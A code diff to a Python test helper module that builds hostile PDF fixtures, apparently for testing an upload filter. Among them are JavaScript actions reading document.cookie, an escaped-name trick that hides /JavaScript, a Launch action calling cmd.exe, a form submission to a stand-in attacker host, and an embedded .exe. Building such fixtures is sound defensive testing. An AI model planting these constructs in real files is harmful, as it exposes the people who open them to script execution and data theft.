@@ -9,8 +9,9 @@ import zipfile
 import zlib
 
 from PIL import Image
+from pypdf import PdfWriter
 
-from silajar.core.tests.files import pdf_bytes
+from silajar.core.tests.files import pdf_document
 
 
 def jpeg_bytes(size: tuple[int, int] = (8, 8), comment: bytes = b"") -> bytes:
@@ -20,8 +21,64 @@ def jpeg_bytes(size: tuple[int, int] = (8, 8), comment: bytes = b"") -> bytes:
 
 
 def pdf_with(body: bytes) -> bytes:
-    """A minimal PDF (that passes the upload check) with `body` among its objects."""
-    return pdf_bytes().replace(b"trailer", body + b"\ntrailer")
+    """A real one-page PDF with `body` (a PDF object: a dictionary, a string) as object 9."""
+    return pdf_document(objects={9: body})
+
+
+JS_ACTION = b"<< /S /JavaScript /JS (app.alert(document.cookie)) >>"
+# Active content the way a PDF writer stores it today: inside a compressed object stream, so
+# none of the names is in the file's bytes. Each, as keyword arguments of `pdf_document`.
+PDF_ACTIVE = {
+    "openaction_javascript": {"catalog": b"/OpenAction 9 0 R", "objects": {9: JS_ACTION}},
+    "names_javascript": {
+        "catalog": b"/Names << /JavaScript 9 0 R >>",
+        "objects": {9: b"<< /Names [(init) 10 0 R] >>", 10: JS_ACTION},
+    },
+    "page_open_javascript": {"page": b"/AA << /O 9 0 R >>", "objects": {9: JS_ACTION}},
+    "escaped_name_javascript": {
+        "catalog": b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"
+    },
+    "launch": {"catalog": b"/OpenAction << /S /Launch /F (C:\\Windows\\System32\\cmd.exe) >>"},
+    "submit_form": {
+        "page": b"/AA << /C 9 0 R >>",
+        "objects": {9: b"<< /S /SubmitForm /F << /FS /URL /F (https://penyerang.example/) >> >>"},
+    },
+    "import_data": {"catalog": b"/OpenAction << /S /ImportData /F (data.fdf) >>"},
+    "rich_media": {
+        "page": b"/Annots [9 0 R]",
+        "objects": {9: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>"},
+    },
+    "embedded_file": {
+        "catalog": b"/Names << /EmbeddedFiles << /Names [(tagihan.exe) 9 0 R] >> >>",
+        "objects": {
+            9: b"<< /Type /Filespec /F (tagihan.exe) /EF << /F 10 0 R >> >>",
+            10: b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
+        },
+    },
+    "file_attachment_annotation": {
+        "page": b"/Annots [9 0 R]",
+        "objects": {
+            9: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] "
+            b"/FS << /Type /Filespec /F (tagihan.exe) >> >>"
+        },
+    },
+}
+
+
+def pdf_active(name: str) -> bytes:
+    """A one-page PDF with PDF_ACTIVE[name] inside a compressed object stream."""
+    return pdf_document(compressed=True, **PDF_ACTIVE[name])
+
+
+def pdf_protected() -> bytes:
+    """A one-page PDF that opens only with a password (RC4, which pypdf reads unaided)."""
+    writer = PdfWriter()
+    writer.add_blank_page(595, 842)
+    password = "rahasia"  # noqa: S105 — the hostile file's own password
+    writer.encrypt(user_password=password, owner_password=password, algorithm="RC4-128")
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
 
 
 def zip_bytes(members: dict[str, bytes]) -> bytes:
